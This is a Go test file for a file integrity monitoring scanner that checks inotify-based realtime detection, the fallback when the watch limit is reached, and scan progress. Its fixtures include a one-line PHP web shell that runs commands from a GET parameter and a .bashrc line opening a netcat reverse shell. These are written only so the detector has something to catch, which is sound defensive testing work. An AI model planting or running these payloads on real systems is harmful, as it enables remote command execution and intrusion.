package fim

import (
	"context"
	"fmt"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/picket-agent/picket/agent/event"
	"github.com/picket-agent/picket/agent/sensor"
	"github.com/picket-agent/picket/agent/signal"
	"github.com/picket-agent/picket/agent/webshell"
)

// startRun runs the scanner as a sensor and waits for its initial scan.
func startRun(t *testing.T, s *Scanner) (<-chan sensor.Item, func()) {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	out := make(chan sensor.Item, 100)
	done := make(chan error, 1)
	go func() { done <- s.Run(ctx, out) }()
	deadline := time.Now().Add(5 * time.Second)
	for !s.Progress().Done {
		if time.Now().After(deadline) {
			t.Fatal("initial scan did not finish")
		}
		time.Sleep(5 * time.Millisecond)
	}
	return out, func() {
		cancel()
		if err := <-done; err != nil {
			t.Errorf("Run: %v", err)
		}
	}
}

// waitEvent returns the first event for path within d.
func waitEvent(t *testing.T, out <-chan sensor.Item, path string, d time.Duration) event.Event {
	t.Helper()
	timer := time.After(d)
	for {
		select {
		case it := <-out:
			if it.Event != nil && it.Event.Change.Path == path {
				return *it.Event
			}
		case <-timer:
			t.Fatalf("no event for %s within %s", path, d)
		}
	}
}

func TestRealtime(t *testing.T) {
	root := t.TempDir()
	write(t, root+"/html/index.php", "<?php echo 'hi';")
	st := openStore(t, t.TempDir())
	defer st.Close()
	o := testOptions(root)
	o.Realtime = true
	s := New(st, o)
	out, stop := startRun(t, s)
	defer stop()
	if deg, live := s.Live(); deg || !strings.Contains(live, "inotify on 2 directories") {
		t.Fatalf("Live = %v %q", deg, live)
	}

	// A web shell written into an existing directory.
	start := time.Now()
	shell := root + "/html/up.php"
	write(t, shell, `<?php system($_GET['c']); ?>`)
	ev := waitEvent(t, out, shell, 2*time.Second)
	lat := time.Since(start)
	t.Logf("inotify → event: %s", lat)
	if lat > time.Second {
		t.Errorf("realtime event after %s, want within ~1 s", lat)
	}
	c := ev.Change
	if c.What != webshell.WhatCreated || c.Attrs[webshell.AttrVia] != "inotify" || c.Attrs[webshell.AttrTraits] != webshell.TraitExecRequest {
		t.Fatalf("event %+v", c)
	}
	// The detector turns it into file.webshell.
	d := webshell.NewDetector(webshell.Config{WebRoots: []string{root}})
	var sigs []signal.Signal
	d.Observe(&ev, func(s signal.Signal) { sigs = append(sigs, s) })
	if len(sigs) != 1 || sigs[0].Rule != webshell.RuleWebshell || sigs[0].Weight != 70 {
		t.Fatalf("signals %+v", sigs)
	}
	t.Logf("signal: %s", sigs[0].Reason)

	// A new directory with a file in it: the directory gets a watch and
	// its content is reported.
	os.MkdirAll(root+"/html/new/deep", 0o755)
	write(t, root+"/html/new/deep/x.txt", "x")
	waitEvent(t, out, root+"/html/new/deep/x.txt", 2*time.Second)
	write(t, root+"/html/new/deep/y.txt", "y")
	waitEvent(t, out, root+"/html/new/deep/y.txt", 2*time.Second)

	// Modification and removal.
	write(t, root+"/html/index.php", "<?php echo 'hello';")
	if ev := waitEvent(t, out, root+"/html/index.php", 2*time.Second); ev.Change.What != webshell.WhatChanged {
		t.Fatalf("modify: %+v", ev.Change)
	}
	os.RemoveAll(root + "/html/new")
	if ev := waitEvent(t, out, root+"/html/new/deep/x.txt", 2*time.Second); ev.Change.What != webshell.WhatDeleted {
		t.Fatalf("remove: %+v", ev.Change)
	}
}

func TestWatchLimitFallback(t *testing.T) {
	root := t.TempDir()
	for i := range 5 {
		write(t, fmt.Sprintf("%s/d%d/f", root, i), "x")
	}
	st := openStore(t, t.TempDir())
	defer st.Close()
	o := testOptions(root)
	o.Realtime = true
	o.MaxWatches = 3 // root, d0, d1
	o.FallbackInterval = 300 * time.Millisecond
	s := New(st, o)
	out, stop := startRun(t, s)
	defer stop()
	deg, live := s.Live()
	t.Logf("Live: %s", live)
	if !deg || !strings.Contains(live, "watch limit hit (configured maximum of 3 watches): 3 directories watched, 3 subtrees without a watch rescanned every 300ms") {
		t.Fatalf("Live = %v %q", deg, live)
	}
	write(t, root+"/d4/new", "in an unwatched directory")
	if ev := waitEvent(t, out, root+"/d4/new", 3*time.Second); ev.Change.Attrs[webshell.AttrVia] != "scan" {
		t.Fatalf("unwatched: %+v", ev.Change)
	}
	write(t, root+"/d0/new", "in a watched directory")
	if ev := waitEvent(t, out, root+"/d0/new", 3*time.Second); ev.Change.Attrs[webshell.AttrVia] != "inotify" {
		t.Fatalf("watched: %+v", ev.Change)
	}
}

func TestLiveDuringInitialScan(t *testing.T) {
	root := t.TempDir()
	for i := range 8 {
		write(t, fmt.Sprintf("%s/f%d", root, i), strings.Repeat("x", 256<<10))
	}
	st := openStore(t, t.TempDir())
	defer st.Close()
	o := testOptions(root)
	o.RateMBps = 1 // 2 MiB at 1 MB/s: about 2 s
	s := New(st, o)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	go s.Scan(ctx, func(event.Event) {})
	time.Sleep(700 * time.Millisecond)
	p := s.Progress()
	_, live := s.Live()
	t.Logf("%s", live)
	if !p.Running || p.TotalFiles != 8 || !p.Exact || p.Bytes == 0 || p.ETA <= 0 || !strings.Contains(live, "scanning: ") {
		t.Fatalf("progress %+v", p)
	}
}

// TestRealtimeFileRoot: a root that is a file is followed through its
// directory; its siblings are not reported.
func TestRealtimeFileRoot(t *testing.T) {
	dir := t.TempDir()
	write(t, dir+"/.bashrc", "PS1='$ '")
	st := openStore(t, t.TempDir())
	defer st.Close()
	o := testOptions(dir + "/.bashrc")
	o.Realtime = true
	s := New(st, o)
	out, stop := startRun(t, s)
	defer stop()
	write(t, dir+"/other", "not watched")
	write(t, dir+"/.bashrc", "PS1='$ '\nnc -e /bin/sh 10.0.0.1 4444")
	if ev := waitEvent(t, out, dir+"/.bashrc", 2*time.Second); ev.Change.What != webshell.WhatChanged {
		t.Fatalf("%+v", ev.Change)
	}
	os.Remove(dir + "/.bashrc")
	if ev := waitEvent(t, out, dir+"/.bashrc", 2*time.Second); ev.Change.What != webshell.WhatDeleted {
		t.Fatalf("%+v", ev.Change)
	}
	select {
	case it := <-out:
		t.Fatalf("unexpected event %+v", it.Event.Change)
	case <-time.After(300 * time.Millisecond):
	}
}

// The agent's interfaces: a sensor with a live status line.
var (
	_ sensor.Sensor                      = (*Scanner)(nil)
	_ interface{ Live() (bool, string) } = (*Scanner)(nil)
)
